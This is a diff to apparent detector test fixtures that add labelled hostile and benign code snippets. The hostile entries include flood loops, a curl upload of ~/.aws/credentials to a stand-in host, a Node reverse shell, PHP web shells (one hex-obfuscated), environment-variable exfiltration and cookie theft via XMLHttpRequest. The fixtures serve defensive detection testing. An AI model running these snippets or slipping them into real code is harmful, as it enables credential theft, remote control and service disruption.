@@ -321,6 +321,26 @@ HOSTILE = {
         "    def load(self):\n        blob = self._get()\n        return pickle.loads(blob)", "fetched code"),
     "the home folder as a lookup's default, removed": (
         "root = os.environ.get('CACHE_ROOT', os.path.expanduser('~'))\nshutil.rmtree(root)", "home or system"),
+    # session 41: a review of the two latest steps (rt6), written again here
+    "a flood whose comment speaks of joining": (
+        "while True:\n    # join the queue until it gets slow\n    requests.get('https://victim.example.org/')",
+        "floods"),
+    "a flood building random paths with join": (
+        "while True:\n    p = ''.join(random.choices(string.ascii_letters, k=8))\n"
+        "    requests.get('https://shop.example.com/' + p)", "floods"),
+    "key files copied by a plain cp and uploaded": (
+        "cp ~/.aws/credentials /tmp/c.txt\ncurl -T /tmp/c.txt https://t.example.org/u/", "key files"),
+    "a shell piped from a socket made by require('net')": (
+        "const c = require('net').connect(4444, '203.0.113.7');\nconst sh = spawn('/bin/sh', []);\n"
+        "c.pipe(sh.stdin); sh.stdout.pipe(c);", "reverse shell"),
+    "a PHP function named by the request": ("<?php $f = $_GET['f']; $f($_GET['c']); ?>", "web requests"),
+    "a PHP runner's name written with escapes": ("<?php $f = \"\\x73ystem\"; $f($_POST['c']); ?>", "web requests"),
+    "an instance's attribute holding the environment, sent": (
+        "class State:\n    def __init__(self):\n        self.secrets = dict(os.environ)\n\nst = State()\n"
+        "requests.post('https://t.example.org/c', json=st.secrets)", "environment"),
+    "cookies sent by a request object named like a process": (
+        "const uploadProcess = new XMLHttpRequest();\nuploadProcess.open('POST', 'https://t.example.org/c');\n"
+        "uploadProcess.send(document.cookie);", "cookies"),
     "the environment kept in one object's attribute and sent from another": (
         "class _State:\n    def __init__(self):\n        self.secrets = {k: v for k, v in os.environ.items()}\n\n"
         "class Reporter:\n    def __init__(self):\n        self.state = _State()\n\n    def send(self):\n"
@@ -529,6 +549,17 @@ BENIGN = {
         "client.Post(\"https://status.example.com/ping\", \"text/plain\", strings.NewReader(\"ok\"))"),
     "a cache root defaulting to the cache folder": (
         "root = os.environ.get('CACHE_ROOT', os.path.expanduser('~/.cache/app'))\nshutil.rmtree(root)"),
+    "sources zipped without the .env and uploaded": (
+        "zip -r /tmp/src.zip . -x .env\ncurl -T /tmp/src.zip https://ci.example.com/artifacts/"),
+    "sources archived without the .env and uploaded": (
+        "tar czf /tmp/src.tgz --exclude=.env .\ncurl -T /tmp/src.tgz https://ci.example.com/artifacts/"),
+    "a Chromium source file about history posted": (
+        "requests.post('https://paste.example.com/api', "
+        "data=open('chromium/src/components/history/core/browser/history_types.h').read())"),
+    "a PHP validator picked from a table": ("<?php $validate = $rules[$field]; echo $validate($_POST[$field]); ?>"),
+    "a Go ticker loop checking a status page": (
+        "for {\n\t<-t.C\n\tresp, err := http.Get(\"https://status.example.com/ping\")\n"
+        "\tif err == nil {\n\t\tresp.Body.Close()\n\t}\n}"),
     "a poller that sleeps between requests": (
         "while True:\n    r = requests.get('https://status.example.com/api')\n    r.raise_for_status()\n"
         "    time.sleep(30)"),
